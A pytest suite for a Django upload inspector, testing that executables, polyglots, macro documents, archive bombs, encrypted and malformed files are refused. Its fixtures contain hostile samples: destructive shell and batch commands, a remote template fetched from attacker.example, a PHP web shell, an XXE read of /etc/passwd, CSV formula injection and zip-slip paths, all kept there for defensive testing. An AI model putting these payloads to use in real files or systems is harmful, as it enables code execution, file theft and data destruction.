"""Every upload is typed by its content and refused, with a reason and a status, when it is empty,
too large, a program, a polyglot, encrypted, malformed, an archive bomb, or carries macros."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.utils import translation

from ilonet.shared.uploads import EXCHANGE, PDF, UploadProfile, UploadRefused, inspect_upload
from ilonet.shared.uploads import testing as make
from ilonet.shared.uploads.types import CSV, DOCX, JPEG, ODS, ODT, PNG, TXT, XLSX

BOARD = UploadProfile("board", (PDF, ODT, DOCX))


def _inspect(data: bytes, name: str = "upload.pdf", profile: UploadProfile = EXCHANGE, **kwargs):
    return inspect_upload(SimpleUploadedFile(name, data), profile=profile, **kwargs)


def _refusal(data: bytes, name: str = "upload.pdf", profile: UploadProfile = EXCHANGE, **kwargs):
    with pytest.raises(UploadRefused) as caught:
        _inspect(data, name, profile, **kwargs)
    return caught.value


@pytest.mark.parametrize(
    ("data", "file_type"),
    [
        (make.pdf_bytes(), PDF),
        (make.docx_bytes(), DOCX),
        (make.xlsx_bytes(), XLSX),
        (make.odt_bytes(), ODT),
        (make.ods_bytes(), ODS),
        (b"country;deployments\nSenegal;3\nNiger;-2\n", CSV),
        ("Notes from the meeting in Dakar, été 2026.\nSecond line.\n".encode(), TXT),
        (make.png_bytes(), PNG),
        (make.jpeg_bytes(), JPEG),
    ],
    ids=lambda value: getattr(value, "key", None) or "",
)
def test_each_accepted_type_is_recognised_by_content_whatever_the_name(data, file_type):
    inspected = _inspect(data, name="misleading.exe")
    assert inspected.file_type == file_type and inspected.size == len(data)
    assert inspected.name == "misleading.exe" and len(inspected.sha256) == 64


def test_a_file_on_disk_is_read_in_a_stream(tmp_path):
    data = make.pdf_bytes(pages=3)
    upload = TemporaryUploadedFile("big.pdf", "application/pdf", len(data), None)
    upload.write(data)
    upload.seek(0)
    assert inspect_upload(upload, profile=EXCHANGE).file_type == PDF
    upload.close()


# --- size ---------------------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    refusal = _refusal(b"")
    assert (refusal.code, refusal.status) == ("empty", 422)


def test_the_size_limit_is_exact(settings):
    data = make.pdf_bytes()
    settings.UPLOAD_MAX_BYTES = len(data)
    assert _inspect(data).size == len(data)  # at the limit: accepted
    refusal = _refusal(data + b"\n")  # one byte over
    assert (refusal.code, refusal.status) == ("too_large", 413)
    assert "larger than" in refusal.message


def test_the_limit_is_checked_on_the_bytes_read_not_only_the_declared_size(settings):
    data = make.pdf_bytes()
    settings.UPLOAD_MAX_BYTES = len(data) - 1
    upload = SimpleUploadedFile("a.pdf", data)
    upload.size = 10  # a size that lies
    with pytest.raises(UploadRefused) as caught:
        inspect_upload(upload, profile=EXCHANGE)
    assert caught.value.code == "too_large"


# --- types and programs ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"\x7fELF\x02\x01\x01\x00" + bytes(120),  # ELF renamed .pdf
        b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120),  # Windows PE
        b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(120),  # Mach-O
        b"#!/bin/sh\nrm -rf ~\n",
        b"@echo off\r\ndel /q C:\\*\r\n",
    ],
    ids=["elf", "pe", "macho", "shell", "batch"],
)
def test_programs_and_scripts_are_refused_whatever_their_name(data):
    refusal = _refusal(data, name="report.pdf")
    assert (refusal.code, refusal.status) == ("executable", 415)


@pytest.mark.parametrize(
    "data",
    [
        make.zip_bytes({"readme.txt": b"hello"}),
        b"<html><body>hi</body></html>",
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        make.odf_bytes(b"application/vnd.oasis.opendocument.presentation"),
    ],
    ids=["zip", "html", "svg", "gif", "odp"],
)
def test_other_types_are_refused_as_not_accepted(data):
    refusal = _refusal(data)
    assert (refusal.code, refusal.status) == ("type_not_accepted", 415)


def test_a_profile_accepts_only_its_types_and_names_them():
    refusal = _refusal(make.ods_bytes(), profile=BOARD)
    assert refusal.code == "type_not_accepted" and "PDF, ODT or DOCX" in refusal.message
    assert _refusal(make.png_bytes(), profile=BOARD).code == "type_not_accepted"
    assert _refusal(b"plain text\n", profile=BOARD).code == "type_not_accepted"


def test_a_program_inside_a_document_is_refused():
    data = make.docx_bytes(extra={"word/media/setup.exe": b"MZ" + bytes(100)})
    assert _refusal(data).code == "executable"


# --- macros and active content -----------------------------------------------------------------------

DOCM_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    "data",
    [
        make.docx_bytes(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"}),  # docm content
        make.docx_bytes(main_type=DOCM_MAIN),  # a .docm's content type, renamed .docx
        make.xlsx_bytes(extra={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),  # Excel 4.0 macros
        make.docx_bytes(extra={"word/activeX/activeX1.xml": b"<ax/>"}),
        make.docx_bytes(
            extra={
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://'
                b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                b'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
            }
        ),
        make.odt_bytes(extra={"Basic/Standard/Module1.xml": b"<script:module/>"}),
        make.odt_bytes(
            content=b'<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:x"/>'
        ),
    ],
    ids=["vbaproject", "docm-type", "xlm", "activex", "remote-template", "odf-basic", "odf-event"],
)
def test_documents_with_macros_are_refused(data):
    refusal = _refusal(data, name="minutes.docx")
    assert (refusal.code, refusal.status) == ("macros", 422)


@pytest.mark.parametrize(
    "data",
    [
        make.pdf_bytes(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        make.pdf_bytes(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),  # escaped names
        make.pdf_bytes(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        make.pdf_bytes(catalog_extra=b"/Names << /EmbeddedFiles 9 0 R >>"),
    ],
    ids=["javascript", "escaped", "launch", "embedded-file"],
)
def test_pdfs_with_active_content_are_refused(data):
    assert _refusal(data).code == "active_content"


def test_names_inside_stream_data_are_not_taken_for_active_content():
    """Compressed or image bytes hold any short sequence by chance (/JS among them)."""
    assert _inspect(make.pdf_bytes(content=b"BT (/JS /Launch /Encrypt) Tj ET\n/JavaScript")).file_type == PDF


def test_csv_formulas_are_refused_but_negative_numbers_and_phone_numbers_pass():
    assert (
        _inspect(b"name,phone,change\nNL,+31 (0)70 123 4567,-3.5\nBE,+32 2 555 12 12,-1\n").file_type == CSV
    )
    refusal = _refusal(b'name,total\nNL,3\nBE,=HYPERLINK("http://x")\n')
    assert refusal.code == "csv_formula" and "Line 3" in refusal.message
    assert _refusal(b"a;b\n1;@SUM(A1)\n").code == "csv_formula"
    assert _refusal(b"a,b\n1,-2+cmd|' /C calc'!A0\n").code == "csv_formula"
    assert _inspect(b"- first point, with a comma\n- second point, with a comma\n").file_type == CSV


# --- archive bombs ----------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_from_its_compression_ratio():
    data = make.docx_bytes(extra={"word/media/zeros.bin": bytes(8 * 1024 * 1024)})
    assert len(data) < 64 * 1024
    refusal = _refusal(data)
    assert (refusal.code, refusal.status) == ("bomb", 422)


def test_a_document_that_unpacks_past_the_limit_is_refused(settings):
    settings.UPLOAD_MAX_UNPACKED_BYTES = 100_000
    data = make.docx_bytes(extra={"word/media/noise.bin": bytes(range(256)) * 500})
    assert _refusal(data).code == "bomb"


def test_a_document_with_too_many_parts_is_refused():
    profile = UploadProfile("small", (DOCX,), max_entries=50)
    data = make.docx_bytes(extra={f"word/media/{n}.xml": b"<x/>" for n in range(60)})
    assert _refusal(data, profile=profile).code == "bomb"


def test_a_document_embedding_an_office_package_passes_and_its_parts_count_towards_the_limits(settings):
    """A chart in a DOCX embeds its workbook (an XLSX): accepted, checked as the document is."""
    chart = {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": make.xlsx_bytes()}
    assert _inspect(make.docx_bytes(extra=chart), "chart.docx").file_type == DOCX
    bomb = make.xlsx_bytes(extra={"xl/media/zeros.bin": bytes(8 * 1024 * 1024)})
    embedded_bomb = make.docx_bytes(extra={"word/embeddings/Book.xlsx": bomb})
    assert _refusal(embedded_bomb, "chart.docx").code == "bomb"
    macro = make.xlsx_bytes(extra={"xl/vbaProject.bin": b"VBA"})
    assert _refusal(make.docx_bytes(extra={"word/embeddings/Book.xlsx": macro}), "c.docx").code == "macros"
    settings.UPLOAD_MAX_UNPACKED_BYTES = 60_000
    noise = make.xlsx_bytes(extra={"xl/media/noise.bin": bytes(range(256)) * 200})  # 51,200 bytes
    assert _inspect(make.docx_bytes(extra={"word/embeddings/a.xlsx": noise}), "c.docx").file_type == DOCX
    twice = {"word/embeddings/a.xlsx": noise, "word/embeddings/b.xlsx": noise}
    assert _refusal(make.docx_bytes(extra=twice), "c.docx").code == "bomb"


def test_archives_inside_embedded_packages_or_other_archives_are_refused():
    inner = make.zip_bytes({"x.txt": b"x"})
    assert (
        _refusal(make.docx_bytes(extra={"word/embeddings/a.zip": make.zip_bytes({"b.zip": inner})})).code
        == "bomb"
    )
    assert (
        _refusal(make.docx_bytes(extra={"word/media/a.bin": b"\x1f\x8b\x08\x00" + bytes(20)})).code == "bomb"
    )


@pytest.mark.parametrize(
    "name",
    ["../evil.xml", "word/../../evil.xml", "/etc/evil", "..\\evil.xml", "C:/evil.xml", "word/a\x01.xml"],
)
def test_parts_whose_names_leave_the_document_are_refused(name):
    refusal = _refusal(make.docx_bytes(extra={name: b"<x/>"}), "slip.docx")
    assert refusal.code == "malformed" and "path outside" in refusal.message


def test_symbolic_links_inside_a_document_are_refused():
    import stat
    import zipfile

    link = zipfile.ZipInfo("word/media/link.xml")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    import io

    buffer = io.BytesIO(make.docx_bytes())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(link, b"/etc/passwd")
    data = buffer.getvalue()
    assert "link" in _refusal(data, "l.docx").message


@pytest.mark.parametrize("part", ["word/document.xml", "word/_rels/document.xml.rels", "docProps/core.xml"])
def test_xml_parts_that_declare_entities_are_refused(part):
    xxe = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>'
    refusal = _refusal(make.docx_bytes(extra={part: xxe}), "x.docx")
    assert refusal.code == "malformed" and "DOCTYPE" in refusal.message
    assert _refusal(make.odt_bytes(content=xxe), "x.odt").code == "malformed"


def test_a_part_that_unpacks_otherwise_than_its_directory_says_is_malformed_not_an_error(tmp_path):
    from ilonet.shared.uploads import malicious

    path, name = malicious.build("zip-bomb-lying-sizes", tmp_path)
    assert _refusal(path.read_bytes(), name).code == "malformed"


def test_an_image_with_too_many_pixels_is_refused():
    profile = UploadProfile("images", (PNG,), max_pixels=1000)
    assert _refusal(make.png_bytes(100, 100), profile=profile).code == "bomb"


# --- polyglots --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        make.pdf_bytes() + make.zip_bytes({"payload.js": b"alert(1)"}),  # ZIP appended to a PDF
        b"%PDF-1.7\n<html><script>alert(1)</script></html>\n" + make.pdf_bytes()[9:],  # PDF + HTML
        make.pdf_bytes() + b"MZ" + bytes(200),  # something after %%EOF
        b"GIF89a" + bytes(100) + make.pdf_bytes(),  # a PDF header inside the first KiB
        make.zip_bytes({"x": b"y"}) + make.pdf_bytes(),  # a ZIP with a PDF after it
        b"junk" + make.docx_bytes(),  # data before the archive
        make.png_bytes() + make.zip_bytes({"a.txt": b"b"}),  # PNG with a ZIP after IEND
        make.png_bytes() + b"<?php system($_GET[1]); ?>",
        make.png_bytes()[:16] + b"<svg onload=alert(1)>" + make.png_bytes()[16:],
        make.docx_bytes()[:-22] + make.docx_bytes()[-22:] + b"trailing",  # after the end record
    ],
    ids=[
        "pdf+zip",
        "pdf+html",
        "pdf+pe",
        "gif+pdf",
        "zip+pdf",
        "prefix+docx",
        "png+zip",
        "png+php",
        "png+svg",
        "docx+tail",
    ],
)
def test_polyglots_are_refused(data):
    refusal = _refusal(data)
    assert (refusal.code, refusal.status) == ("polyglot", 422), refusal.message


def test_a_document_starting_as_one_type_with_another_types_end_record_is_refused():
    """A text file that a ZIP reader would open: the ZIP's end record is at its end."""
    archive = make.zip_bytes({"a.txt": b"b"})
    data = b"plain text\n" * 10 + archive[archive.rindex(b"PK\x05\x06") :]
    assert _refusal(data).code == "polyglot"


# --- encrypted ------------------------------------------------------------------------------------


def test_an_encrypted_pdf_is_refused():
    data = make.pdf_bytes(
        trailer_extra=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >> /ID [<01> <01>]"
    )
    refusal = _refusal(data)
    assert (refusal.code, refusal.status) == ("encrypted", 422)


def test_an_encrypted_office_document_is_refused():
    assert _refusal(make.encrypted_ooxml_bytes(), name="secret.docx").code == "encrypted"


def test_an_encrypted_zip_entry_or_opendocument_is_refused():
    data = bytearray(make.docx_bytes())
    # Set the "encrypted" flag of the first entry in the central directory.
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 0x01
    assert _refusal(bytes(data)).code == "encrypted"
    manifest = b'<manifest:file-entry><manifest:encryption-data manifest:checksum-type="SHA1"/>'
    assert _refusal(make.odt_bytes(extra={"META-INF/manifest.xml": manifest})).code == "encrypted"


def test_a_legacy_office_file_is_not_accepted():
    data = bytearray(make.encrypted_ooxml_bytes())
    data = data.replace("EncryptionInfo".encode("utf-16-le"), "WordDocument\x00\x00".encode("utf-16-le"))
    data = data.replace(
        "EncryptedPackage".encode("utf-16-le"),
        "Macros\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00".encode("utf-16-le"),
    )
    assert _refusal(bytes(data), name="old.doc").code == "type_not_accepted"


# --- malformed ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n%%EOF\n",  # no objects, no cross-reference table
        make.pdf_bytes()[:-200],  # truncated: no %%EOF
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",  # no page
        b"PK\x03\x04" + bytes(60),  # a ZIP that does not open
        make.docx_bytes()[:200] + make.docx_bytes()[-22:],  # central directory missing
        make.png_bytes()[:30],  # truncated PNG
        make.jpeg_bytes()[:-40] + b"\xff\xd9",  # JPEG with its data cut
    ],
    ids=["pdf-empty", "pdf-truncated", "pdf-no-page", "zip", "zip-cut", "png", "jpeg"],
)
def test_malformed_files_are_refused(data):
    refusal = _refusal(data)
    assert refusal.code in ("malformed", "polyglot"), refusal
    assert refusal.status == 422


def test_text_that_is_not_utf8_is_refused():
    assert _refusal("caf\xe9 au lait\n".encode("latin-1"), name="notes.txt").code == "text_encoding"
    assert _refusal("notes\n".encode("utf-16"), name="notes.txt").code == "text_encoding"


# --- messages -------------------------------------------------------------------------------------


def test_refusals_are_translated():
    with translation.override("nl"):
        assert _refusal(b"").message == "Het bestand is leeg."
        assert "programma" in _refusal(b"\x7fELF" + bytes(64)).message
        assert "PDF, ODT of DOCX" in _refusal(make.ods_bytes(), profile=BOARD).message


def test_a_refusal_is_a_validation_error_on_the_file_field():
    refusal = _refusal(b"")
    assert refusal.message_dict == {"file": ["The file is empty."]}
